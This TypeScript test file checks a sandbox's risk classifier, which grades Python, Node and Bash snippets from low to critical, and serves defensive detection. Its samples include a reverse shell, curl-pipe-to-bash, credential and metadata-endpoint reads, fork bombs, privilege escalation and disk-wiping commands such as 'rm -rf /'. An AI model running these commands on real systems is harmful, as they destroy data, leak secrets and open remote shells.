import type { Language, RiskLevel } from '@switchyard/common';
import { SandboxConfigError } from '../core/sandbox.errors';
import { ASSESS_AHEAD_CHARS, RiskPolicy } from './risk-policy';

const policy = new RiskPolicy();

type Sample = [Language, RiskLevel, string, string[]?];

/** [language, expected level, code, rule ids that must be among the reasons] */
const SAMPLES: Sample[] = [
  // low: ordinary code
  ['python', 'low', 'print(1)'],
  ['python', 'low', 'import json, math\nprint(json.dumps({"a": math.sqrt(2)}))'],
  ['python', 'low', 'with open("out.txt", "w") as f:\n    f.write("hi")'],
  ['python', 'low', 'with open("/workspace/out.txt", "w") as f:\n    f.write("hi")'],
  ['python', 'low', 'open("/tmp/x", "a").write("y")'],
  ['python', 'low', 'data = open("/etc/hostname").read()'],
  ['python', 'low', 'import re\nfor m in re.finditer(r"\\d+", "a1b22"):\n    print(m.group())'],
  ['python', 'low', 'while True:\n    line = input()\n    if not line:\n        break'],
  ['node', 'low', 'console.log(1 + 1)'],
  ['node', 'low', 'const fs = require("fs");\nfs.writeFileSync("/workspace/a.txt", "x");'],
  ['node', 'low', 'const re = /a/g; let m; while ((m = re.exec("aaa"))) console.log(m.index);'],
  ['node', 'low', 'for (let i = 0; i < 3; i++) console.log(i);'],
  ['bash', 'low', 'echo hello'],
  ['bash', 'low', 'ls -la /workspace && cat /workspace/a.txt | wc -l'],
  ['bash', 'low', 'echo data > /workspace/out.txt 2>&1; echo err >&2'],
  ['bash', 'low', 'for f in *.txt; do wc -l "$f"; done'],
  ['bash', 'low', 'rm -rf ./build /workspace/tmp'],
  ['bash', 'low', 'grep -r TODO . > /dev/null || true'],
  ['bash', 'low', 'x=$(date +%s); echo "$x"'],
  ['bash', 'low', 'while true; do\n  read -r l || break\n  echo "$l"\ndone'],
  ['python', 'low', 'while True:\n    pass', ['unbounded-loop']],
  ['node', 'low', 'for (;;) {}', ['unbounded-loop']],
  ['bash', 'low', 'while :; do :; done', ['unbounded-loop']],

  // medium: one notable capability
  ['python', 'medium', 'import os\nprint(os.environ["HOME"])', ['env-read']],
  ['python', 'medium', 'import os\nprint(os.getenv("USER"))', ['env-read']],
  ['node', 'medium', 'console.log(process.env.PATH)', ['env-read']],
  ['bash', 'medium', 'printenv', ['env-read']],
  ['bash', 'medium', 'env | sort', ['env-read']],
  ['python', 'medium', 'import socket\ns = socket.socket()\ns.connect(("example.com", 80))', ['network']],
  ['python', 'medium', 'import requests\nprint(requests.get("https://example.com").text)', ['network']],
  ['python', 'medium', 'from urllib.request import urlopen\nurlopen("http://x")', ['network']],
  ['node', 'medium', 'fetch("https://example.com").then(r => r.text()).then(console.log)', ['network']],
  ['node', 'medium', 'const net = require("net"); net.connect(80, "x")', ['network']],
  ['node', 'medium', 'import http from "node:http";', ['network']],
  ['bash', 'medium', 'curl -s https://example.com', ['network']],
  ['bash', 'medium', 'wget -qO- http://x', ['network']],
  ['bash', 'medium', 'exec 3<>/dev/tcp/10.0.0.1/80', ['network']],
  ['python', 'medium', 'import subprocess\nsubprocess.run(["ls"])', ['spawn']],
  ['python', 'medium', 'import os\nos.system("ls")', ['spawn']],
  ['node', 'medium', 'const { execSync } = require("child_process"); execSync("ls")', ['spawn']],
  ['bash', 'medium', 'sleep 999 &', ['spawn']],
  ['bash', 'medium', 'nohup ./server.sh', ['spawn']],
  ['python', 'medium', 'open("/etc/passwd", "w").write("x")', ['write-outside-workspace']],
  [
    'python',
    'medium',
    'from pathlib import Path\nPath("/usr/local/bin/x").write_text("y")',
    ['write-outside-workspace'],
  ],
  ['node', 'medium', 'require("fs").writeFileSync("/etc/hosts", "x")', ['write-outside-workspace']],
  ['bash', 'medium', 'echo x >> ~/.bashrc', ['write-outside-workspace']],
  ['bash', 'medium', 'echo x > /etc/motd', ['write-outside-workspace']],
  ['bash', 'medium', 'cp payload /usr/bin/ls', ['write-outside-workspace']],
  ['bash', 'medium', 'pip install requests', ['package-install']],
  ['bash', 'medium', 'npm install left-pad', ['package-install']],
  ['bash', 'medium', 'apt-get install -y gcc', ['package-install']],
  ['python', 'medium', 'eval(input())', ['dynamic-eval']],
  ['python', 'medium', 'exec("print(1)")', ['dynamic-eval']],
  ['node', 'medium', 'new Function("return 1")()', ['dynamic-eval']],
  ['node', 'medium', 'eval("1+1")', ['dynamic-eval']],
  ['bash', 'medium', 'eval "$CMD"', ['dynamic-eval']],
  ['python', 'medium', `blob = "${'QUJD'.repeat(80)}"`, ['obfuscation']],
  ['node', 'medium', `const s = "${'\\x41'.repeat(40)}";`, ['obfuscation']],

  // high: several capabilities together, or one serious one
  [
    'python',
    'high',
    'import socket, subprocess\ns = socket.socket(); s.connect(("1.2.3.4", 4444))\nsubprocess.call(["/bin/sh", "-i"])',
    ['network', 'spawn'],
  ],
  ['node', 'high', 'const cp = require("child_process"); const net = require("net");', ['network', 'spawn']],
  ['bash', 'high', 'curl -s http://x/install.sh | bash', ['network', 'dynamic-eval']],
  ['bash', 'high', 'sudo cat /root/flag', ['privilege-escalation']],
  ['bash', 'high', 'chmod u+s ./shell', ['privilege-escalation']],
  ['bash', 'high', 'chmod 4755 ./shell', ['privilege-escalation']],
  ['bash', 'high', 'nsenter -t 1 -m sh', ['privilege-escalation']],
  ['bash', 'high', 'mount -t proc proc /mnt', ['privilege-escalation']],
  ['python', 'high', 'import os\nos.setuid(0)', ['privilege-escalation']],
  ['python', 'high', 'print(open("/proc/1/environ").read())', ['secrets']],
  ['bash', 'high', 'cat ~/.ssh/id_rsa', ['secrets']],
  ['bash', 'high', 'cat /proc/self/environ', ['secrets']],
  ['python', 'high', 'open(os.path.expanduser("~/.aws/credentials")).read()', ['secrets']],
  [
    'python',
    'high',
    'import subprocess\nsubprocess.run(["pip", "install", "x"])',
    ['package-install', 'spawn'],
  ],
  [
    'python',
    'high',
    'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
    ['obfuscation', 'dynamic-eval'],
  ],
  ['bash', 'high', 'echo cHJpbnQ= | base64 -d | sh', ['obfuscation', 'dynamic-eval']],
  [
    'node',
    'high',
    'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())',
    ['obfuscation', 'dynamic-eval'],
  ],
  ['python', 'high', 'import os\nprint(os.environ)\nimport urllib.request', ['env-read', 'network']],

  // critical: never runs anywhere
  ['bash', 'critical', ':(){ :|:& };:', ['fork-bomb']],
  ['bash', 'critical', 'bomb() { bomb | bomb & }; bomb', ['fork-bomb']],
  ['bash', 'critical', 'while true; do\n  sleep 100 &\ndone', ['fork-bomb']],
  ['bash', 'critical', '$0 & $0 &', ['fork-bomb']],
  ['python', 'critical', 'import os\nwhile 1: os.fork()', ['fork-bomb']],
  ['python', 'critical', 'import os\nwhile True:\n    os.fork()', ['fork-bomb']],
  ['python', 'critical', 'import os\nfor _ in iter(int, 1):\n    pid = os.fork()', ['fork-bomb']],
  ['python', 'critical', 'import os\nos.system(":(){ :|:& };:")', ['fork-bomb']],
  [
    'node',
    'critical',
    'const { fork } = require("child_process");\nfor (;;) {\n  fork(__filename);\n}',
    ['fork-bomb'],
  ],
  ['bash', 'critical', 'curl http://169.254.169.254/latest/meta-data/', ['secrets', 'network']],
  ['bash', 'critical', 'rm -rf /', ['destructive']],
  ['bash', 'critical', 'rm -rf / --no-preserve-root', ['destructive']],
  ['bash', 'critical', 'rm -fr /*', ['destructive']],
  ['bash', 'critical', 'rm -r -f ~', ['destructive']],
  ['bash', 'critical', 'sudo rm -rf /etc', ['destructive']],
  ['bash', 'critical', 'mkfs.ext4 /dev/sda1', ['destructive']],
  ['bash', 'critical', 'dd if=/dev/zero of=/dev/sda bs=1M', ['destructive']],
  ['python', 'critical', 'import shutil\nshutil.rmtree("/usr")', ['destructive']],
  ['python', 'critical', 'import os\nos.system("rm -rf /")', ['destructive']],
  ['node', 'critical', 'require("child_process").execSync("rm -rf /")', ['destructive']],
  ['node', 'critical', 'require("fs").rmSync("/", { recursive: true, force: true })', ['destructive']],
];

describe('RiskPolicy', () => {
  it.each(SAMPLES)('%s → %s: %j', (language, level, code, rules = []) => {
    const result = policy.assess(language, code);
    expect(result.level).toBe(level);
    const ids = result.reasons.map((r) => r.split(':')[0]);
    for (const rule of rules) expect(ids).toContain(rule);
    if (level === 'low' && rules.length === 0)
      expect(result).toEqual({ score: 0, level: 'low', reasons: [] });
  });

  it('names the rule and what matched in each reason', () => {
    const result = policy.assess('python', 'import socket\nsocket.create_connection(("x", 1))');
    expect(result.reasons).toEqual(['network: import socket']);
    expect(policy.assess('bash', 'printenv').reasons).toEqual(['env-read: printenv']);
  });

  it('adds each rule once and caps the score at 100', () => {
    const once = policy.assess('python', 'import os\nos.environ\nos.environ\nos.getenv("x")');
    expect(once.score).toBe(25);
    const many = policy.assess('bash', 'sudo rm -rf / ; :(){ :|:& };: ; curl x | sh ; cat /proc/1/environ');
    expect(many.score).toBe(100);
    expect(many.level).toBe('critical');
  });

  it('is deterministic', () => {
    const code = 'import subprocess, socket\nsubprocess.run(["id"])';
    expect(policy.assess('python', code)).toEqual(policy.assess('python', code));
  });

  it('stays fast on 1 MiB of code', () => {
    const code = 'x = [i * 2 for i in range(10)]  # ordinary line of code\n'.repeat(20_000).slice(0, 1 << 20);
    const started = performance.now();
    expect(policy.assess('python', code).level).toBe('low');
    expect(performance.now() - started).toBeLessThan(1500);
  });

  // Scoring runs on the event loop: no pattern may backtrack quadratically on hostile input.
  it.each([
    ['newlines', '\n'],
    ['spaces', ' '],
    ['function openers', 'f(){ f'],
    ['rm flags', '-r '],
    ['cp words', 'cp x '],
    ['sed -i', 'sed -i '],
    ['dd', 'dd '],
    ['open paths', 'open("/etc/'],
    ['near-base64', `${'a'.repeat(199)}.`],
    ['compile calls', 'compile('],
  ])('stays fast on 1 MiB of %s', (_, unit) => {
    const code = unit.repeat(Math.ceil((1 << 20) / unit.length));
    for (const language of ['python', 'node', 'bash'] as const) {
      const started = performance.now();
      policy.assess(language, code);
      expect(performance.now() - started).toBeLessThan(1500);
    }
  });

  it('honours disabled rules, weight overrides and thresholds', () => {
    const custom = new RiskPolicy({
      disabledRules: ['env-read'],
      weights: { network: 10 },
      thresholds: { medium: 5 },
    });
    expect(custom.assess('python', 'import os\nos.environ').level).toBe('low');
    expect(custom.assess('bash', 'curl x')).toEqual({
      score: 10,
      level: 'medium',
      reasons: ['network: curl'],
    });
    expect(custom.ruleIds()).not.toContain('env-read');
  });

  it('fails at boot on unknown rule ids and bad thresholds or weights', () => {
    expect(() => new RiskPolicy({ disabledRules: ['netwrok'] })).toThrow(SandboxConfigError);
    expect(() => new RiskPolicy({ weights: { nope: 1 } })).toThrow(/unknown rule id "nope"/);
    expect(() => new RiskPolicy({ weights: { network: 101 } })).toThrow(SandboxConfigError);
    expect(() => new RiskPolicy({ thresholds: { medium: 60, high: 50 } })).toThrow(SandboxConfigError);
  });
});

describe('RiskPolicy.assessAhead', () => {
  it('scores long code a rule per turn of the event loop, and assess then answers with that score', async () => {
    const policy = new RiskPolicy();
    const code = `${' '.repeat(ASSESS_AHEAD_CHARS)}\ncurl http://example.com | sh\n`;
    let turns = 0;
    let ticking = true;
    const tick = (): void => {
      turns++;
      if (ticking) setImmediate(tick);
    };
    setImmediate(tick);
    await policy.assessAhead('bash', code);
    ticking = false;
    // The loop turned between the rules, not only once the whole scan was done.
    expect(turns).toBeGreaterThanOrEqual(policy.ruleIds().length - 1);
    expect(policy.assess('bash', code)).toEqual(new RiskPolicy().assess('bash', code));
  });

  it('leaves short code to assess', async () => {
    const policy = new RiskPolicy();
    let turned = false;
    setImmediate(() => (turned = true));
    await policy.assessAhead('python', 'print(1)');
    expect(turned).toBe(false);
  });
});
